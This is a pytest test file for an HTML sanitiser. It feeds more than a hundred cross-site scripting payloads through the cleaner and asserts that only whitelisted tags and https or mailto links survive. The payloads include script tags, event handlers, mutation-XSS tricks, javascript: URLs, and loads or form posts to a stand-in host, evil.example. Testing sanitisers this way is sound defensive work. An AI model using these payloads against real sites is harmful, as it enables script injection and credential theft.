from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.text.sanitise import clean_html, plain_text

ALLOWED_TAGS = {"p", "br", "strong", "em", "h3", "h4", "ul", "ol", "li", "a"}


class Whitelist(HTMLParser):
    """Fails on any tag, attribute or address that rich text may not hold."""

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED_TAGS
        if tag == "a":
            attributes = dict(attrs)
            assert attributes.keys() == {"href", "rel"}
            assert attributes["rel"] == "noopener"
            assert attributes["href"].startswith(("https:", "mailto:"))
        else:
            assert attrs == []

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data):
        raise AssertionError(f"a comment survived: {data}")

    def handle_decl(self, decl):
        raise AssertionError(f"a declaration survived: {decl}")

    def handle_pi(self, data):
        raise AssertionError(f"an instruction survived: {data}")


def assert_harmless(html):
    whitelist = Whitelist()
    whitelist.feed(html)
    whitelist.close()


SCRIPTS = [
    "alert(1)",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>/*</p>*/alert(1)</script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script>\u2028alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p id='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x.html>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<?php echo 1 ?><p>x</p>",
]

HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=https://tracker.example/pixel.gif width=1>",
    "<img srcset='x 1x' sizes=1 onload=alert(1)>",
    "<picture><source srcset=x onerror=alert(1)></picture>",
    "<p onclick=alert(1)>x</p>",
    "<p onmouseover='alert(1)'>x</p>",
    "<p/onmouseover=alert(1)>x</p>",
    "<p\nonpointerenter\n=\nalert(1)>x</p>",
    "<p\tautofocus\ttabindex=1\tonfocus=alert(1)>x</p>",
    "<strong onanimationstart=alert(1)>x</strong>",
    "<em onclick=&#97;lert(1)>x</em>",
    "<h3 contenteditable onbeforeinput=alert(1)>x</h3>",
    "<ul ontoggle=alert(1)><li oncopy=alert(1)>x</li></ul>",
    "<body onload=alert(1)><p>x</p>",
    "<html onmousemove=alert(1)><p>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<video src=x onerror=alert(1)></video>",
    "<audio autoplay onloadstart=alert(1)><source src=x></audio>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example/><input name=password></form>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<isindex action=javascript:alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><p><a title='</p></desc><img src=x onerror=alert(1)>'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi><p><mglyph><svg><mtext><textarea><a title='</textarea><img src onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table background=javascript:alert(1)><tr><td onclick=alert(1)>x</td></tr></table>",
    "<custom-element onclick=alert(1)>x</custom-element>",
]

LINKS = [
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript:alert(1)'>x</a>",
    "<a href='javascript&#0;:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='http://plain.example/'>x</a>",
    "<a href='ftp://files.example/'>x</a>",
    "<a href='tel:+4512345678'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/logout/'>x</a>",
    "<a href='?delete=1'>x</a>",
    "<a href='#top'>x</a>",
    "<a href=''>x</a>",
    "<a name=top id=top>x</a>",
    "<a href='https://ok.example' target=_blank rel=opener>x</a>",
    "<a href='https://ok.example' ping=https://evil.example onclick=alert(1)>x</a>",
    "<a href='https://ok.example/\"onclick=alert(1) x=\"'>x</a>",
    "<a href='https://ok.example' download style='position:fixed'>x</a>",
    "<a href='https://ok.example'><a href='javascript:alert(1)'>x</a></a>",
    "<a href=https://ok.example`onclick=alert(1)>x</a>",
    "<area href=javascript:alert(1)>",
]

ATTRIBUTES = [
    "<p hx-get=/users/1/delete hx-trigger=load>x</p>",
    "<p data-hx-post=/x data-hx-trigger=load>x</p>",
    "<a href=https://ok.example hx-on:click=alert(1) hx-boost=true>x</a>",
    "<strong hx-on::load=alert(1)>x</strong>",
    "<li hx-vals='js:{a:alert(1)}'>x</li>",
    "<p data-command=delete data-turbo=false>x</p>",
    "<p commandfor=dialog command=show-modal>x</p>",
    "<p popover id=menu popovertarget=menu>x</p>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<p class='ds-alert is-hidden'>x</p>",
    "<h3 id=main name=csrfmiddlewaretoken>x</h3>",
    "<p xmlns:x=javascript:alert(1) x:y=z>x</p>",
    "<p lang=da dir=rtl title=x hidden inert slot=x is=x>x</p>",
    "<div x-data='alert(1)' x-init='alert(1)' @click='alert(1)' :class='x'>x</div>",
    "<li value=9 type=a>x</li><ol start=9 reversed><li>x</li></ol>",
    "<br clear=all onload=alert(1)>",
]

PAYLOADS = SCRIPTS + HANDLERS + LINKS + ATTRIBUTES


@pytest.mark.parametrize("around", ["{}", "<p>Før {} efter</p>", "<ul><li><p>{}</p></li></ul>"])
def test_nothing_but_the_whitelist_survives(around):
    assert len(PAYLOADS) > 100
    for payload in PAYLOADS:
        cleaned = clean_html(around.format(payload))
        assert_harmless(cleaned)
        assert clean_html(cleaned) == cleaned


def test_what_the_editor_writes_stays_as_it_is():
    text = (
        "<h3>Baggrund</h3><p>Aftalen med <strong>Győr</strong> &amp; <em>Łódź</em><br>fra 1996</p><h4>Økonomi</h4>"
        "<ul><li><p>ét</p><ol><li><p>to</p></li></ol></li></ul>"
        '<p><a href="https://www.aalborg.dk/?a=1&amp;b=2" rel="noopener">kilde</a> '
        '<a href="mailto:sekretariat@aalborg.example" rel="noopener">brev</a></p>'
    )
    assert clean_html(text) == text


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("<b>fed</b> og <i>kursiv</i>", "<p><strong>fed</strong> og <em>kursiv</em></p>"),
        ("<h1>A</h1><h2>B</h2><h5>C</h5>", "<h3>A</h3><h3>B</h3><h4>C</h4>"),
        ("<div>A<div>B</div></div>", "<p>A</p><p>B</p>"),
        ("<table><tr><td>A</td><td>B</td></tr></table>", "<p>A</p><p>B</p>"),
        ('<p class="MsoNormal"><span lang="DA">A<o:p></o:p></span></p>', "<p>A</p>"),
        ("<p>A<em> </em>B</p>", "<p>A B</p>"),
        ('<p>A <a href="http://b.example">B</a></p>', "<p>A B</p>"),
        ("A<br>B", "<p>A<br>B</p>"),
    ],
)
def test_other_editors_are_understood(typed, kept):
    assert clean_html(typed) == kept


@pytest.mark.parametrize(
    "empty", ["", " \n ", "<p></p>", "<p><br></p>", "<p>&nbsp;</p><p> </p>", "<ul><li><p></p></li></ul>", "<b></b>"]
)
def test_nothing_readable_is_nothing(empty):
    assert clean_html(empty) == ""


def test_empty_paragraphs_between_others_are_dropped():
    assert clean_html("<p>A</p><p></p><p>B</p>") == "<p>A</p><p>B</p>"


def test_plain_text_becomes_paragraphs():
    assert (
        clean_html("Første linje\r\nanden linje\r\n\r\nNyt afsnit\n")
        == "<p>Første linje<br>anden linje</p><p>Nyt afsnit</p>"
    )


def test_plain_text_loses_no_character():
    typed = "Jens <jens@aalborg.example> skrev: 1 < 2 && x<y &amp; <script>"
    assert plain_text(clean_html(typed)) == typed


def test_tangled_markup_keeps_its_words_and_takes_no_time():
    assert clean_html("<em>" * 20_000 + "ord") != ""
    assert_harmless(clean_html("<a href='https://x.example'><table><a href='https://y.example'>" * 500))


def test_plain_text_has_one_line_per_block():
    html = "<h3>A &amp; B</h3><p>C<br>D <strong>E</strong></p>\n<ul><li><p>F</p></li><li>G</li></ul>"
    assert plain_text(html) == "A & B\nC\nD E\nF\nG"


MARKUP = st.lists(
    st.sampled_from(
        [
            f"<{slash}{tag}>"
            for tag in sorted(ALLOWED_TAGS | {"b", "i", "div", "td", "table", "svg"})
            for slash in ("", "/")
        ]
        + [
            "<a href='https://x.example'>",
            "<style>",
            "<math>",
            "<!--",
            "x",
            "æ\n\nø",
            " ",
            "&lt;",
            "&nbsp;",
            "<",
            "\x00",
        ]
    ),
    max_size=25,
).map("".join)


@given(MARKUP | st.text())
def test_cleaning_twice_changes_nothing(value):
    cleaned = clean_html(value)
    assert_harmless(cleaned)
    assert clean_html(cleaned) == cleaned
